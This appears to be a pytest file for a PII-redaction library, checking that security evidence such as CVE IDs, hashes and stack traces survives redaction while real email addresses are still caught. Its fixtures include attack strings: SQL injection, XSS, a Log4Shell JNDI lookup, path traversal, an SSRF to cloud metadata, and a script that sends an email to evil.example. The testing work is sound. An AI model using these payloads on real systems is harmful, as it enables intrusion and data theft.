"""Technical evidence survives the whole detector."""

from __future__ import annotations

import pytest

from pii_guard.detect.evidence import documentation_value, protected

EVIDENCE = [
    "CVE-2021-44228 and CWE-79 and GHSA-jfh8-c2jp-5v3q",
    "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "X-Request-Id: 550e8400-e29b-41d4-a716-446655440000",
    "rip=0x7ffff7e4d1a2 and \\x90\\x90\\x31\\xc0",
    "' OR 1=1-- -",
    "<script>alert(document.cookie)</script>",
    "${jndi:ldap://x.oast.example/a} {{7*7}} ../../../etc/passwd",
    "Apache/2.4.49, OpenSSL 1.1.1k, log4j-core-2.14.1.jar",
    "2021-12-10T13:37:00Z 1639143420 [10/Dec/2021:13:55:36 +0000]",
    "at com.acme.shop.OrderService.find(OrderService.java:135)",
    'File "/srv/app/search.py", line 88, in search',
    "SSRF to http://169.254.169.254/latest/meta-data from 10.0.0.5",
    "Jenkins, Burp Suite, Kali Linux, Metasploit Framework, Jackson Databind",
    "order_id=1000234567 Content-Length: 348275 pid 31337",
    "GET /search?q=x%27%20UNION%20SELECT%20NULL,user()-- HTTP/1.1",
    "user <PERSON_1> wrote to <EMAIL_ADDRESS_2>",
]


@pytest.mark.parametrize("text", EVIDENCE)
def test_evidence_is_not_touched(guard, text):
    result = guard.redact(text.encode(), name="evidence.txt")
    assert result.verdict == "clean", [str(f) for f in result.findings]
    assert result.output == text.encode()


def test_a_real_address_inside_a_payload_is_still_found(guard):
    text = "<script>fetch('//evil.example?m=jane.roe@mail.example')</script>"
    assert b"jane.roe" not in guard.redact(text.encode(), name="p.txt").output


def test_our_tokens_are_absolute():
    shields = list(protected("mail <EMAIL_ADDRESS_12> now").near(0, 99))
    assert [s.absolute for s in shields] == [True]


@pytest.mark.parametrize(
    ("kind", "value", "expected"),
    [
        ("IP_ADDRESS", "192.0.2.10", True),
        ("IP_ADDRESS", "10.1.2.3", True),
        ("IP_ADDRESS", "81.2.69.142", False),
        ("EMAIL_ADDRESS", "security@shop.example", True),
        ("EMAIL_ADDRESS", "jane.roe@example.com", False),
        ("CREDIT_CARD", "4111 1111 1111 1111", True),
        ("CREDIT_CARD", "4000 0012 3456 7899", False),
    ],
)
def test_documentation_values(kind, value, expected):
    assert documentation_value(kind, value) is expected
